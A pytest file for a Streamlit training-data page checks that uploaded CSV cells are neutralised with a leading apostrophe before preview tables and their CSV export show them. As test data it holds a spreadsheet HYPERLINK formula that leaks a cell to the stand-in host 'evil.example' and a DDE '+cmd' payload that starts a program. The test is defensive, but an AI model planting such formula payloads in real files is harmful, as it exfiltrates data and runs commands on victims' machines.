"""The Training page's data checks as shown (ui/training_data.py ``show_checks``): a CSV's own cells
in the preview and the rows-per-category table are what the table's "Download as CSV" writes, so a
cell a spreadsheet would run is shown as the exports write it."""

import pandas as pd
from streamlit.testing.v1 import AppTest

from tests.conftest import REPO_ROOT

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


def _checks_script(path: str) -> None:
    from pathlib import Path

    from ui.training_data import show_checks

    show_checks(Path(path), "validation")


def test_a_formula_cell_reaches_neither_table_as_a_formula(tmp_path):
    """Before: the preview and the category table held '=HYPERLINK(…)' as it was, and the tables'
    built-in "Download as CSV" wrote it so: a spreadsheet opening that file runs it (a corrections
    preview shows mail an attacker wrote)."""
    rows = pd.read_csv(REPO_ROOT / "training/data/train.csv", keep_default_na=False, dtype=str).head(5)
    rows.loc[0, "subject"] = FORMULA
    rows.loc[1, "category"] = "+cmd|' /C calc'!A0"
    path = tmp_path / "members.csv"
    rows.to_csv(path, index=False)

    app = AppTest.from_function(_checks_script, args=(str(path),), default_timeout=60).run()
    assert not app.exception
    shown = [cell for frame in app.dataframe for cell in frame.value.to_numpy().ravel() if isinstance(cell, str)]
    assert "'" + FORMULA in shown and "'+cmd|' /C calc'!A0" in shown
    assert not [cell for cell in shown if cell.startswith(("=", "+", "-", "@"))]
    assert any("a category the model does not know" in error.value for error in app.error)  # still refused
